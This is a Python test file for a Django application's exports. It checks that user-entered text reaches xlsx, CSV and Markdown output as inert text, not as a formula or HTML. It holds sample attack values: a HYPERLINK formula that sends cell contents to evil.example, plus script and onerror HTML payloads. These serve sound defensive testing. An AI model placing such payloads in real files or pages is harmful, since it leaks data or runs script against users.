"""Formula injection (issue 16, finding 6): text a user wrote reaches every export as text, never as a live formula —
.xlsx cells of string type, CSV fields behind an apostrophe — and the year-in-review's Markdown shows an
organization's HTML as text. The CSV escape is undone by the import: export → import changes nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from qingfeng.core.spreadsheet import csv_cell, csv_unescape
from tests.clock import TODAY

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"x")'
# Every start a spreadsheet program may read as a formula, and the apostrophe of the escape itself.
STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "'=1+2"]


def _body(response) -> bytes:
    """A download's bytes, whether it was written whole or streamed (drill exports stream)."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_inert_xlsx(content: bytes, text: str) -> None:
    cells = [c for c in _xlsx_cells(content) if isinstance(c.value, str) and text in c.value]
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert not [c for c in _xlsx_cells(content) if c.data_type == "f"], "a formula cell was written"


def _csv_fields(content: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for field in row]


@pytest.mark.parametrize("text", STARTS)
def test_the_csv_escape_is_exact_and_reversible(text):
    escaped = csv_cell(text)
    assert escaped.startswith("'") and csv_unescape(escaped) == text
    assert csv_cell("正常文字") == "正常文字" and csv_unescape("'正常") == "'正常"


def _finding(world, description):
    from qingfeng.supervision import actions
    from qingfeng.supervision.models import Finding

    finding = actions.record_finding(user=world.admin, org=world.branch_a, source="自查", found_on=TODAY,
                                     description=description, deadline=TODAY + dt.timedelta(days=30))
    # The form trims a leading tab or line break; a record may still hold one (from older data, say).
    Finding.objects.filter(pk=finding.pk).update(description=description)
    finding.description = description
    return finding


def test_a_finding_with_a_formula_is_exported_as_text(world, client_for):
    _finding(world, HOSTILE)
    client = client_for(world.district_user)
    response = client.get(reverse("supervision:list"), {"export": "xlsx"})
    _assert_inert_xlsx(response.content, HOSTILE)
    fields = _csv_fields(client.get(reverse("supervision:list"), {"export": "csv"}).content)
    assert "'" + HOSTILE in fields and HOSTILE not in fields


def test_every_risky_start_is_neutralized_in_the_list_export(world, client_for):
    for text in STARTS:
        _finding(world, text + " 问题")
    client = client_for(world.district_user)
    content = client.get(reverse("supervision:list"), {"export": "xlsx"}).content
    values = {c.value for c in _xlsx_cells(content)}
    for text in STARTS:
        _assert_inert_xlsx(content, text + " 问题")
        assert text + " 问题" in values
    fields = _csv_fields(client.get(reverse("supervision:list"), {"export": "csv"}).content)
    for text in STARTS:
        assert "'" + text + " 问题" in fields


def test_drill_through_exports_write_text(world, client_for):
    _finding(world, HOSTILE)
    client = client_for(world.district_user)
    query = {"org": world.branch_a.code, "key": "rectify.found", "from": f"{TODAY.year}-01-01", "to": TODAY.isoformat()}
    content = _body(client.get(reverse("indicators:drill"), {**query, "export": "xlsx"}))
    _assert_inert_xlsx(content, HOSTILE)
    fields = _csv_fields(_body(client.get(reverse("indicators:drill"), {**query, "export": "csv"})))
    assert "'" + HOSTILE in fields and HOSTILE not in fields


def test_the_drill_command_writes_escaped_csv(world):
    from django.core.management import call_command

    _finding(world, HOSTILE)
    out = io.StringIO()
    call_command("drill", "rectify.found", "--org", world.branch_a.code, "--from", f"{TODAY.year}-01-01",
                 "--to", TODAY.isoformat(), "--format", "csv", stdout=out)
    fields = [f for row in csv.reader(io.StringIO(out.getvalue())) for f in row]
    assert "'" + HOSTILE in fields and HOSTILE not in fields


def test_the_audit_export_writes_text(world, client_for):
    from qingfeng.audit.models import record

    # A summary carries what a user typed (a code, a file name, a query string): here the hostile text itself.
    record(world.clerk, "update", model="supervision.Finding", object_id="-1+2", summary=HOSTILE)
    content = client_for(world.admin).get(reverse("audit:list"), {"export": "xlsx"}).content
    _assert_inert_xlsx(content, HOSTILE)
    _assert_inert_xlsx(content, "-1+2")


def test_an_organization_name_reaches_the_review_workbook_as_text(world, client_for):
    world.branch_a.name = HOSTILE
    world.branch_a.save(update_fields=["name"])
    world.community.name = "=1+2 社区"
    world.community.save(update_fields=["name"])
    client = client_for(world.city_user)
    query = {"org": world.community.code, "from": f"{TODAY.year}-01-01", "to": TODAY.isoformat()}
    content = client.get(reverse("reports:download", args=["xlsx"]), query).content
    _assert_inert_xlsx(content, HOSTILE)
    _assert_inert_xlsx(content, "=1+2 社区")


def test_the_review_markdown_shows_html_as_text(world, client_for):
    world.community.name = '<img src=x onerror="alert(1)">社区'
    world.community.save(update_fields=["name"])
    world.branch_a.name = "<script>alert(2)</script>"
    world.branch_a.save(update_fields=["name"])
    query = {"org": world.community.code, "from": f"{TODAY.year}-01-01", "to": TODAY.isoformat()}
    text = client_for(world.city_user).get(reverse("reports:download", args=["md"]), query).content.decode()
    assert "<img" not in text and "<script" not in text
    assert "&lt;img src=x onerror=\"alert(1)\"&gt;社区" in text


def test_an_exported_csv_imports_back_unchanged(world, client_for, tmp_path):
    from qingfeng.imports.actions import run_import
    from qingfeng.supervision.models import Finding

    # (A leading tab or line break is trimmed by the import as by the form: those two are left out here.)
    texts = {_finding(world, text + " 整改").code: text + " 整改" for text in STARTS if text == text.strip()}
    content = client_for(world.district_user).get(reverse("supervision:list"), {"export": "csv"}).content
    path = tmp_path / "问题整改.csv"
    path.write_bytes(content)
    result = run_import(path, world.district_user)
    assert result.ok, [str(p) for p in result.problems]
    assert sum(c["update"] + c["create"] for c in result.summary.values()) == 0  # nothing differs
    for code, text in texts.items():
        assert Finding.objects.get(code=code).description == text
